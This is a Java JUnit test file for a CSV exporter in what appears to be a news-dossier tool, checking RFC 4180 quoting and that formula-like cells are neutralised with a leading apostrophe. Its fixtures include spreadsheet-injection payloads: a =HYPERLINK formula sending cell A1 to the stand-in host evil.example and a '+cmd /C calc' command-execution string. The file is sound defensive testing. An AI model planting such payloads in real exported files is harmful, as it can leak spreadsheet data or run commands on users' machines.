package org.dossier.views.ledger;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.dossier.views.DossierFixture;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class FiguresCsvTest {

    static Stream<Arguments> fields() {
        return Stream.of(
                Arguments.of("7000", "7000"),
                Arguments.of("as many as 15,000", "\"as many as 15,000\""),
                Arguments.of("the \"red line\"", "\"the \"\"red line\"\"\""),
                Arguments.of("two\nlines", "\"two\nlines\""),
                Arguments.of("carriage\rreturn", "\"carriage\rreturn\""),
                Arguments.of("plain text", "plain text"),
                Arguments.of("", ""));
    }

    @ParameterizedTest(name = "[{0}] -> [{1}]")
    @MethodSource("fields")
    void quotesAsRfc4180Requires(String field, String quoted) {
        assertThat(FiguresCsv.quote(field)).isEqualTo(quoted);
    }

    static Stream<Arguments> cells() {
        return Stream.of(
                Arguments.of("=HYPERLINK(\"http://evil.example/\",\"Click\")", "'=HYPERLINK(\"http://evil.example/\",\"Click\")"),
                Arguments.of("+cmd", "'+cmd"),
                Arguments.of("-2+3", "'-2+3"),
                Arguments.of("@SUM(A1:A2)", "'@SUM(A1:A2)"),
                Arguments.of("\tTabbed", "'\tTabbed"),
                Arguments.of("\rReturned", "'\rReturned"),
                Arguments.of("Voice of America", "Voice of America"),
                Arguments.of("a = b", "a = b"),
                Arguments.of("", ""));
    }

    @ParameterizedTest(name = "[{0}] -> [{1}]")
    @MethodSource("cells")
    void aTextCellThatStartsLikeAFormulaGetsALeadingApostrophe(String text, String cell) {
        assertThat(FiguresCsv.inert(text)).isEqualTo(cell);
    }

    @Test
    void textFromTheArticlesCannotRunAsAFormulaWhereTheValueStaysANumber() {
        FigureLedger ledger = FigureLedger.of(DossierFixture.parse(List.of(
                "article evil | =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") | +cmd /C calc!A0 | -",
                "block evil p1 | The index fell -3.5 points, said @Vladimir Putin.",
                "figure evil p1 | -3.5 | -3.5 | points | points | - | @Vladimir Putin")).dossier());

        String row = FiguresCsv.of(ledger).split("\r\n")[1];

        assertThat(row).isEqualTo(
                ",-3.5,'-3.5,points,,points,'@Vladimir Putin,"
                        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
                        + "'+cmd /C calc!A0,,articles/evil.html#p1");
    }

    @Test
    void theSeedTroopLedgerMatchesItsGoldenFile() throws IOException {
        FigureLedger ledger = FigureLedger.of(
                DossierFixture.read(Path.of("src/test/resources/views/grouping/seed-troops.txt")).dossier());

        String expected = Files.readString(Path.of("src/test/resources/views/csv/seed-troops.csv"), StandardCharsets.UTF_8);

        assertThat(FiguresCsv.of(ledger)).isEqualTo(expected);
    }

    @Test
    void everyLineEndsInCrLfAndHasOneFieldPerColumn() {
        FigureLedger ledger = FigureLedger.of(
                DossierFixture.read(Path.of("src/test/resources/views/grouping/money-by-currency.txt")).dossier());

        String csv = FiguresCsv.of(ledger);

        assertThat(csv).endsWith("\r\n").doesNotContain("\r\n\r\n");
        assertThat(csv.split("\r\n")).allSatisfy(line ->
                assertThat(line.replaceAll("\"[^\"]*\"", "x").split(",", -1)).hasSize(FiguresCsv.HEADER.size()));
    }
}
